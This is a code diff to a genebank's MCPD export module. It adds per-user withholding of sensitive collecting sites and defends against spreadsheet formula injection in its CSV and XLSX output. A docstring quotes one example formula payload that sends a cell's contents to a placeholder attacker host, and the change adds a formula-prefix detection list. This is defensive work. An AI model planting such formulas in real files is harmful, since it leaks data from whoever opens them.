@@ -8,6 +8,7 @@ import logging
 import multiprocessing
 import operator
 import os
+import re
 import shutil
 import tempfile
 import threading
@@ -31,10 +32,10 @@ from genebank.accessions.models import (
     Acquisition,
     CollectingEvent,
 )
+from genebank.accessions.sensitive import OPERATOR, shows_exact_site, withheld_site
 from genebank.core.models import Country, Institute, Taxon
 from genebank.exchange.mcpd import (
     COLLECTING_FIELDS,
-    COORDINATE_FIELDS,
     DONOR_FIELDS,
     ERROR,
     FIELDS,
@@ -1104,8 +1105,13 @@ def iter_mcpd_rows(
     with_pk: bool = False,
     derived: bool = True,
     parts: list[tuple[int, int | None, int | None]] | None = None,
+    user=OPERATOR,
 ) -> Iterator:
     """MCPD rows (lists of 41 texts in the standard order) of the accessions, streamed in chunks.
+
+    Sensitive sites are withheld as accessions.sensitive rules for this user (by default the
+    operator: the command line, the importer's comparisons and the PDCI see them exactly), and
+    always with public_only. A web download passes the user who asked for it.
 
     Rows come by institute, then in the order the accessions were registered: an import keeps
     the order of its file, so an export imported into an empty database exports the same again
@@ -1127,6 +1133,8 @@ def iter_mcpd_rows(
     if parts is None:
         parts = _export_parts(queryset)
     for institute_id, start, stop in parts:
+        # The rule depends on the institute only, and every part is one institute's.
+        withhold = not shows_exact_site(user, institute_id, True, public=public_only)
         query = queryset.filter(institute_id=institute_id)
         if start is not None:
             query = query.filter(pk__gte=start)
@@ -1137,7 +1145,7 @@ def iter_mcpd_rows(
         try:
             cursor.execute(sql, params)
             while chunk := cursor.fetchmany(BATCH):
-                yield from _mcpd_chunk(chunk, public_only, with_pk, derived)
+                yield from _mcpd_chunk(chunk, withhold, with_pk, derived)
         finally:
             cursor.close()
 
@@ -1206,7 +1214,8 @@ def _coordinate_text(value) -> str:
 SIX_PLACES = Decimal("0.000001")
 
 
-def _mcpd_chunk(chunk: list[tuple], public_only: bool, with_pk: bool, derived: bool) -> Iterator:
+def _mcpd_chunk(chunk: list[tuple], withhold: bool, with_pk: bool, derived: bool) -> Iterator:
+    """The rows of one chunk; withhold: replace the sites of sensitive accessions."""
     quote = connection.ops.quote_name
     ids = [row[0] for row in chunk]
     event_ids = [row[21] for row in chunk if row[21] is not None]
@@ -1247,6 +1256,7 @@ def _mcpd_chunk(chunk: list[tuple], public_only: bool, with_pk: bool, derived: b
     # STORAGE is derived from seed lots when there are any.
     storage = storage_fields(ids) if derived else {}
     no_event = ("",) * 16
+    withheld = [(INDEX[name], value) for name, value in withheld_site().items()]
     for r in chunk:
         pk = r[0]
         if r[21] is None:
@@ -1301,9 +1311,9 @@ def _mcpd_chunk(chunk: list[tuple], public_only: bool, with_pk: bool, derived: b
             _text(r[15]),  # MLSSTAT
             r[19],  # REMARKS
         ]
-        if public_only and r[20]:
-            for name in COORDINATE_FIELDS:
-                values[INDEX[name]] = ""
+        if withhold and r[20] and r[21] is not None:
+            for index, value in withheld:
+                values[index] = value
         yield (pk, values) if with_pk else values
 
 
@@ -1351,8 +1361,14 @@ def export_mcpd(
     institute: str | None = None,
     public_only: bool = False,
     queryset=None,
+    user=OPERATOR,
 ) -> ExportResult:
-    """Write the accessions as MCPD v2.1 (41 columns, standard order, UTF-8). Reads only."""
+    """Write the accessions as MCPD v2.1 (41 columns, standard order, UTF-8). Reads only.
+
+    The file is for exchange with other genebanks' software: CSV and TSV keep the values'
+    bytes as stored (no spreadsheet escaping, see csv_lines); XLSX cells are all text.
+    Sensitive sites as iter_mcpd_rows gives them for this user (by default the operator).
+    """
     path = Path(path)
     format = (format or path.suffix.lstrip(".").lower() or "csv").lower()
     if format not in EXPORT_FORMATS:
@@ -1364,7 +1380,7 @@ def export_mcpd(
     if public_only:
         queryset = queryset.filter(is_public=True)
     if format == "xlsx":
-        count = write_xlsx(path, iter_mcpd_rows(queryset, public_only=public_only))
+        count = write_xlsx(path, iter_mcpd_rows(queryset, public_only=public_only, user=user))
     else:
         # Two processes only from a single-threaded process outside a transaction (the
         # command line), and only when there is enough to share.
@@ -1372,25 +1388,42 @@ def export_mcpd(
             _export_halves(queryset) if _may_fork() and not connection.in_atomic_block else None
         )
         if halves is not None and halves[2] >= PARALLEL_EXPORT_ROWS and halves[1]:
-            count = _export_in_two(path, format, queryset, public_only, *halves[:2])
+            count = _export_in_two(path, format, queryset, public_only, user, *halves[:2])
         else:
             with open(path, "w", encoding="utf-8", newline="") as fh:
-                rows = iter_mcpd_rows(queryset, public_only=public_only)
+                rows = iter_mcpd_rows(queryset, public_only=public_only, user=user)
                 count = _write_delimited(fh, format, rows)
     return ExportResult(path, format, count)
 
 
 def write_xlsx(target, rows: Iterable[list]) -> int:
     """MCPD rows as a workbook (sheet MCPD, header first), written as they come; target: a path
-    or a binary file. Returns the number of rows."""
+    or a binary file. Returns the number of rows.
+
+    Every value is written as text. openpyxl (3.1.5, Cell._bind_value) stores a str that starts
+    with "=" as a formula and one that spells an error code ("#N/A") as an error: a name such as
+    =HYPERLINK("http://evil.example/?d="&B2,"Open") would become a live formula in whoever
+    opens the file. Those values go in a cell whose type is set back to text after binding.
+    """
     from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
 
     workbook = Workbook(write_only=True)
     sheet = workbook.create_sheet("MCPD")
     sheet.append(FIELDS)
+
+    def as_text(value):
+        # Only the few values openpyxl might not keep as text (every error code starts with
+        # "#") get a cell of their own: a cell object per value would slow a large export.
+        if isinstance(value, str) and value.startswith(("=", "#")):
+            cell = WriteOnlyCell(sheet, value)
+            cell.data_type = "s"
+            return cell
+        return value
+
     count = 0
     for values in rows:
-        sheet.append(values)
+        sheet.append([as_text(value) for value in values])
         count += 1
     workbook.save(target)
     return count
@@ -1403,13 +1436,36 @@ class _Line:
         return text
 
 
+# What a spreadsheet program reads as the start of a formula (OWASP, CSV injection); a tab or a
+# carriage return first hides one from the eye.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")
+
+
+def spreadsheet_text(value: str) -> str:
+    """The value as a spreadsheet program shows it as text: a leading quote before anything it
+    would evaluate. Plain numbers (DECLATITUDE -12.5, ELEVATION -30) are numbers there, not
+    formulas, and stay as they are."""
+    if (
+        isinstance(value, str)
+        and value.startswith(_FORMULA_STARTS)
+        and not _PLAIN_NUMBER.fullmatch(value)
+    ):
+        return "'" + value
+    return value
+
+
 def csv_lines(rows: Iterable[list], bom: bool = True) -> Iterator[str]:
-    """MCPD rows as CSV text, line by line (for a streamed download). The byte order mark makes
-    spreadsheet programs read the file as UTF-8; the importer reads it either way."""
+    """MCPD rows as CSV text, line by line, for a download to open in a spreadsheet program.
+
+    The byte order mark makes spreadsheet programs read the file as UTF-8; every value goes
+    through spreadsheet_text so that none of them runs as a formula there. (The MCPD exchange
+    file of export_mcpd keeps the values' bytes: other genebanks' software reads it.)
+    """
     writer = csv.writer(_Line(), lineterminator="\n")
     yield ("\ufeff" if bom else "") + writer.writerow(FIELDS)
     for values in rows:
-        yield writer.writerow(values)
+        yield writer.writerow([spreadsheet_text(value) for value in values])
 
 
 def _write_delimited(fh, format: str, rows: Iterable[list], header: bool = True) -> int:
@@ -1427,7 +1483,9 @@ def _write_delimited(fh, format: str, rows: Iterable[list], header: bool = True)
 PARALLEL_EXPORT_ROWS = 20_000
 
 
-def _export_in_two(path: Path, format: str, queryset, public_only: bool, first, second) -> int:
+def _export_in_two(
+    path: Path, format: str, queryset, public_only: bool, user, first, second
+) -> int:
     """Write the first half of the rows here while a forked process writes the second half.
 
     Reading and formatting the rows is Python work on one core; the second core of a small
@@ -1440,11 +1498,13 @@ def _export_in_two(path: Path, format: str, queryset, public_only: bool, first, 
     os.close(handle)
     part = Path(part_name)
     connections.close_all()
-    second_half = _from_child(_write_part, part, format, queryset, second, public_only)
+    second_half = _from_child(_write_part, part, format, queryset, second, public_only, user)
     try:
         with open(path, "w", encoding="utf-8", newline="") as fh:
             count = _write_delimited(
-                fh, format, iter_mcpd_rows(queryset, public_only=public_only, parts=first)
+                fh,
+                format,
+                iter_mcpd_rows(queryset, public_only=public_only, parts=first, user=user),
             )
         count += sum(second_half)
         with open(path, "ab") as out, open(part, "rb") as rest:
@@ -1455,9 +1515,9 @@ def _export_in_two(path: Path, format: str, queryset, public_only: bool, first, 
         part.unlink(missing_ok=True)
 
 
-def _write_part(part: Path, format: str, queryset, parts, public_only: bool) -> Iterator[int]:
+def _write_part(part: Path, format: str, queryset, parts, public_only: bool, user) -> Iterator[int]:
     with open(part, "w", encoding="utf-8", newline="") as fh:
-        rows = iter_mcpd_rows(queryset, public_only=public_only, parts=parts)
+        rows = iter_mcpd_rows(queryset, public_only=public_only, parts=parts, user=user)
         yield _write_delimited(fh, format, rows, header=False)
 
 
